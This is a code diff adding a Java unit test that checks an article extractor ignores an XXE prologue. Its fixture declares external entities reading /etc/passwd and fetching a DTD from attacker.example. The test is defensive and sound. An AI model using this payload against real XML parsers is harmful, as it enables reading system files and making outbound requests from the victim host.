@@ -55,6 +55,34 @@ class ArticleExtractorTest {
   }
 
   @Test
+  void extract_xxePrologueNeitherLeaksNorResolves() {
+    String prose = "The committee met on Tuesday and agreed the budget after a long debate. ";
+    String page =
+        "<?xml version=\"1.0\"?>\n<!DOCTYPE html [\n"
+            + "  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n"
+            + "  <!ENTITY % remote SYSTEM \"http://attacker.example/x.dtd\">\n]>\n"
+            + "<html><body><article><p>"
+            + prose.repeat(3)
+            + "Signed &xxe; today.</p><p>"
+            + prose.repeat(2)
+            + "</p></article></body></html>";
+
+    for (String text :
+        java.util.List.of(
+            extractor.extract(page, "https://news.example/a").text(),
+            extractor
+                .extract(
+                    page.getBytes(java.nio.charset.StandardCharsets.UTF_8),
+                    null,
+                    "https://news.example/a")
+                .text())) {
+      assertThat(text).contains("The committee met on Tuesday").contains("Signed today.");
+      assertThat(text).doesNotContain("]>").doesNotContain("&xxe;").doesNotContain("root:");
+      assertThat(text).doesNotContain("ENTITY");
+    }
+  }
+
+  @Test
   void htmlText_keepsParagraphsAndCollapsesSpace() {
     assertThat(
             HtmlText.fromHtml(
